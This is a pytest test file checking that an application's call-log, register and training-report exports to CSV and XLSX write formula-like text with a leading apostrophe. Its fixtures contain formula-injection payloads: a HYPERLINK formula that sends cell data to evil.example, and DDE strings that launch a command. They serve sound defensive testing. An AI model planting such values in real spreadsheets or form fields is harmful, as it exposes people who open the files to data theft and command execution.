"""No export turns a caller's or a contract's text into a live spreadsheet formula (OWASP).

A caller name ``=HYPERLINK(...)``, a contract number starting ``+``, ``-`` or ``@``: every
.xlsx and .csv export writes such text with a leading apostrophe, so Excel shows it as text.
The files are opened with openpyxl and the csv module and checked cell by cell; an exported
register file imports back unchanged.
"""

from __future__ import annotations

import csv
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from desktop_app.core.common.cell_safety import FORMULA_STARTS, neutralise, restore
from desktop_app.core.common.permissions import Actor
from desktop_app.core.front_desk.calls import CallDraft
from desktop_app.core.records.call_log import CallLogQuery
from desktop_app.core.records.call_log_export import export_call_log
from desktop_app.core.services import Services
from desktop_app.core.training.report_xlsx import write_report
from tests.helpers.factories import make_bank, make_contract, make_person

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+86 10 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _live_formulas_xlsx(path: Path) -> list[str]:
    """Every cell openpyxl reads as a formula, or as text that would start one."""
    found = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(str(cell.value))
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    found.append(cell.value)
    return found


def _live_formulas_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [c for row in csv.reader(handle) for c in row if c.startswith(FORMULA_STARTS)]


def test_neutralise_prefixes_only_text_that_starts_a_formula() -> None:
    assert [neutralise(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert neutralise("中国工商银行") == "中国工商银行"
    assert neutralise(-5) == -5  # a real negative number stays a number
    assert [restore(neutralise(text)) for text in HOSTILE] == list(HOSTILE)
    assert restore("'quoted'") == "'quoted'"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_call_log_export_writes_hostile_callers_as_text(
    services: Services, admin: Actor, tmp_path: Path, suffix: str
) -> None:
    bank = make_bank(services, admin)
    for name in HOSTILE:
        services.calls.log(admin, CallDraft("no_one", caller_name=name, bank_id=bank.id))
    path = tmp_path / f"calls{suffix}"
    assert export_call_log(services.call_log, admin, CallLogQuery(), path) == len(HOSTILE)
    found = _live_formulas_csv(path) if suffix == ".csv" else _live_formulas_xlsx(path)
    assert found == []
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = {c for row in csv.reader(handle) for c in row}
        assert {"'" + name.strip() for name in HOSTILE} <= cells  # names are trimmed


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_register_exports_write_hostile_text_as_text_and_import_it_back(
    services: Services, admin: Actor, tmp_path: Path, suffix: str
) -> None:
    bank = make_bank(services, admin, "=银行()", short_name="@工行", aliases=[])
    numbers = ["-HT-2026-001", "+HT-2026-002", "=1+2"]
    for number in numbers:
        make_contract(services, admin, bank.id, number, title="=cmd|' /C calc'!A0")
    make_person(services, admin, "finance", name="@张伟", notes="=1+1")
    for kind in ("banks", "contracts", "people"):
        path = tmp_path / f"{kind}{suffix}"
        services.imports.export(admin, kind, path, "zh_CN")
        found = _live_formulas_csv(path) if suffix == ".csv" else _live_formulas_xlsx(path)
        assert found == [], kind
    # The exported contracts read back as they were stored.
    plan = services.imports.preview(admin, "contracts", tmp_path / f"contracts{suffix}")
    assert sorted(row.label for row in plan.rows) == sorted(numbers)
    assert {row.cells["合同名称"] for row in plan.rows} == {"=cmd|' /C calc'!A0"}


def test_the_training_report_writes_hostile_names_as_text(
    services: Services, admin: Actor, tmp_path: Path
) -> None:
    make_person(services, admin, "finance", name='=HYPERLINK("http://evil")')
    path = tmp_path / "training.xlsx"
    write_report(path, services.training.team_report(admin), ZoneInfo("Asia/Shanghai"))
    assert _live_formulas_xlsx(path) == []
    names = [row[0] for row in load_workbook(path).worksheets[0].iter_rows(values_only=True)]
    assert '\'=HYPERLINK("http://evil")' in names
